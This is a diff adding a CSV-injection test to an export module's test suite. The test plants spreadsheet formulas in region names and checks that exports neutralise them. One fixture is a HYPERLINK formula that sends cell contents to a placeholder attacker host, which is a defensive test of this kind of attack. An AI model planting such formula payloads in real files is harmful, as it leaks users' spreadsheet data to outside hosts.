@@ -6,7 +6,7 @@ import { listRegions } from '../db/regions.ts';
 import { createRun } from '../db/runs.ts';
 import { demoDocument, freshDb } from '../db/test-fixture.ts';
 import { createDraft, publishVersion } from '../db/versions.ts';
-import { exportDataset, exportRun } from './export.ts';
+import { exportDataset, exportRun, neutraliseCsv } from './export.ts';
 import { importDataset } from './import.ts';
 import { buildTemplate } from './template.ts';
 
@@ -171,5 +171,34 @@ describe('run export', () => {
     const wb = await load((await exportRun(h.db, run.id, 'xlsx')).body);
     expect(wb.worksheets.map((w) => w.name)).toEqual(['排名', '运行信息']);
     expect(wb.worksheets[0].rowCount).toBe(14);
+  });
+});
+
+describe('CSV injection', () => {
+  it('neutralises text cells that a spreadsheet would run as a formula; numbers and re-import unchanged', async () => {
+    fill();
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"点此")';
+    h.sqlite.prepare('UPDATE regions SET name_zh = ? WHERE code = ?').run(evil, '220100');
+    h.sqlite.prepare('UPDATE regions SET name_zh = ? WHERE code = ?').run('@SUM(1+1)', '220200');
+    const cells = (text: string) =>
+      text
+        .replace(/^\uFEFF/, '')
+        .split('\n')
+        .flatMap((line) => line.split(','))
+        .map((c) => c.replace(/^"/, ''));
+    const data = (await exportDataset(h.db, 2024, 'csv', versionId)).body.toString('utf8');
+    expect(data).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
+    expect(data).toContain(`'@SUM(1+1)`);
+    expect(cells(data).filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
+    const pub = publishVersion(h.db, versionId, {}, 'a');
+    const run = createRun(h.db, { versionId: pub.id, year: 2024 }, 'a');
+    const ranking = (await exportRun(h.db, run.id, 'csv')).body.toString('utf8');
+    expect(ranking).toContain(`'@SUM(1+1)`);
+    expect(cells(ranking).filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
+    // Negative numbers stay numbers, and the exported file re-imports without a change.
+    expect(neutraliseCsv('-5')).toBe("'-5");
+    const before = getDataset(h.db, 2024);
+    await importDataset(h.db, { year: 2024, versionId, format: 'csv', data, actor: 'a' });
+    expect(getDataset(h.db, 2024).regions.map((r) => r.values)).toEqual(before.regions.map((r) => r.values));
   });
 });
